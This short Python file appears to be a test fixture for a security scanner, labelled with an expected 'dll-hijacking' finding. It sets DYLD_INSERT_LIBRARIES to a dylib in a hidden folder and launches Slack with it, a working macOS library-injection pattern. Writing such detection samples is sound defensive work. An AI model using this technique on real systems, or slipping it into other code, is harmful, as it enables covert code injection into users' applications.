# ruff: noqa
# fmt: off
"""macOS: DYLD_INSERT_LIBRARIES injects a dylib into a launched application."""
import os
import subprocess

env = dict(os.environ)
env["DYLD_INSERT_LIBRARIES"] = os.path.expanduser("~/Library/.hidden/libinject.dylib")  # expect: dll-hijacking
subprocess.Popen(["/Applications/Slack.app/Contents/MacOS/Slack"], env=env)
